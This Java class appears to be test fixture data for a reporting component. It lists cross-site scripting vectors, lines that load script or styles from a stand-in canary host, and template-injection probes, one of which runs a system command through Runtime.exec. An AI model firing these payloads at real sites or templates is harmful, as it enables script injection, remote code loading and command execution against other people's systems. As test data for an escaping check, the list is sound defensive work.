package io.nightcondor.reporting.safety;

import java.util.List;

/** What a browser or a template engine could take for more than text. */
final class MarkupPayloads {

  private static final String JS = Payloads.CANARY;
  private static final String HOST = Payloads.HOST;

  static final List<String> TEXTS = List.of(
      // elements
      "<script>" + JS + "</script>",
      "<ScRiPt>" + JS + "</sCrIpT>",
      "<script src=" + HOST + "/x.js></script>",
      "<script\n>" + JS + "</script\n>",
      "<scr\0ipt>" + JS + "</scr\0ipt>",
      "<<script>" + JS + "//<</script>",
      "<img src=x onerror=" + JS + ">",
      "<img src=" + HOST + "/x.png>",
      "<image href=x onerror=" + JS + ">",
      "<svg onload=" + JS + ">",
      "<svg><script>" + JS + "</script></svg>",
      "<svg><animate onbegin=" + JS + " attributeName=x dur=1s>",
      "<svg><use href=\"data:image/svg+xml,<svg id=x onload=" + JS + ">#x\"/></svg>",
      "<math><mi xlink:href=\"javascript:" + JS + "\">x</mi></math>",
      "<iframe src=\"javascript:" + JS + "\"></iframe>",
      "<iframe srcdoc=\"<script>parent." + JS + "</script>\"></iframe>",
      "<object data=\"data:text/html,<script>" + JS + "</script>\"></object>",
      "<embed src=" + HOST + "/x>",
      "<body onload=" + JS + ">",
      "<input autofocus onfocus=" + JS + ">",
      "<details open ontoggle=" + JS + ">x</details>",
      "<video><source onerror=" + JS + "></video>",
      "<audio src=x onerror=" + JS + ">",
      "<marquee onstart=" + JS + ">x</marquee>",
      "<link rel=stylesheet href=" + HOST + "/x.css>",
      "<style>@import '" + HOST + "/x.css';</style>",
      "<style>*{background:url(" + HOST + "/x)}</style>",
      "<base href=" + HOST + "/>",
      "<meta http-equiv=refresh content=\"0;url=" + HOST + "\">",
      "<form action=" + HOST + "><button>x</button></form>",
      "<a href=\"javascript:" + JS + "\">x</a>",
      "<a href=\"java\tscript:" + JS + "\">x</a>",
      "<x contenteditable onblur=" + JS + ">x",
      // attributes and what holds them
      "\"><script>" + JS + "</script>",
      "'><script>" + JS + "</script>",
      "\"><img src=x onerror=" + JS + ">",
      "\" onmouseover=\"" + JS,
      "' onmouseover='" + JS,
      "\" autofocus onfocus=\"" + JS + "\" x=\"",
      "x onfocus=" + JS + " autofocus",
      "`onmouseover=" + JS,
      "\" style=\"background:url(" + HOST + "/x)",
      "\\\"><script>" + JS + "</script>",
      // ends of what it may stand in
      "</title><script>" + JS + "</script>",
      "</style><script>" + JS + "</script>",
      "</script><script>" + JS + "</script>",
      "</textarea><script>" + JS + "</script>",
      "</td></tr></table><script>" + JS + "</script>",
      "</svg><script>" + JS + "</script>",
      "--><script>" + JS + "</script>",
      "--!><script>" + JS + "</script>",
      "]]><script>" + JS + "</script>",
      "<!--",
      "<![CDATA[",
      "<plaintext>",
      "<noscript><p title=\"</noscript><img src=x onerror=" + JS + ">\">",
      "<math><mtext><table><mglyph><style><img src=x onerror=" + JS + ">",
      // addresses and codes
      "javascript:" + JS,
      "JaVaScRiPt:" + JS,
      "&#106;avascript:" + JS,
      "data:text/html,<script>" + JS + "</script>",
      "vbscript:x",
      HOST + "/x",
      "//canary.invalid/x",
      "&lt;script&gt;" + JS + "&lt;/script&gt;",
      "&#60;script&#62;" + JS,
      "\\u003cscript\\u003e" + JS,
      "%3Cscript%3E" + JS,
      "\uFF1Cscript\uFF1E" + JS,
      "\u202E<script>" + JS + "</script>",
      "+ADw-script+AD4-" + JS,
      "\u00C0\u00BCscript\u00C0\u00BE",
      // templates
      "[[${7*7}]]",
      "[(${7*7})]",
      "${7*7} *{7*7} #{x} @{/x} ~{x}",
      "__${7*7}__",
      "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
      "[# th:utext=\"${7*7}\"/]",
      "<p th:utext=\"${7*7}\">x</p>",
      "<p data-th-text=\"${7*7}\">x</p>",
      "~{risk :: x}",
      "{{7*7}} #{7*7} <%= 7*7 %>");

  private MarkupPayloads() {}
}
